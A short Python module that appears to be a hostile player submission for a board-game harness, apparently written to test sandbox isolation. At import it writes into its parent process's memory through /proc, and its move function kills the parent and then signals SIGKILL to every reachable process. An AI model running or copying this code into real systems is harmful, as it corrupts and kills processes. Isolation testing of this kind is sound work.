"""Signals everything above it, and writes into its memory."""

import os
import signal

try:
    with open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
        memory.seek(4096)
        memory.write(b"x")
except OSError:
    pass


def choose(board, me, opponent):
    try:
        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    os.kill(-1, signal.SIGKILL)
    return 0, 0
